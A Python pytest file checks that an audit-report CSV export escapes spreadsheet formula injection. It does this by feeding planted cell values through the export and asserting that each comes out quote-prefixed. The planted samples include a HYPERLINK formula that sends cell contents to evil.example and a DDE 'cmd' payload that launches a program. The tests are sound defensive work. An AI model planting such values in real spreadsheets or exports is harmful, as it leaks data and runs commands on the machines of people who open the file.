"""report.csv opens in a spreadsheet as text: no cell read from the records runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from wardstream.audit.report import build_report, csv_cell, to_csv
from wardstream.domain.audit import AuditRecord

T0 = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
PLANTED = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("planted", PLANTED)
def test_a_planted_formula_is_written_as_text(planted: str) -> None:
    record = AuditRecord(
        audit_id="a1", at=T0, worker="w", pipeline=planted, action="DROPPED",
        chain="c/0", seq=0, reason=planted, rule=planted,
    )  # fmt: skip
    text = to_csv(build_report([record], T0 + timedelta(days=1)))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + planted.replace("\r", "\\r") in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_ordinary_cells_and_numbers_are_unchanged() -> None:
    assert csv_cell("clickstream") == "clickstream"
    assert csv_cell("2026-03-01") == "2026-03-01"
    assert csv_cell(-3) == -3
    assert csv_cell("'=x") == "'=x"
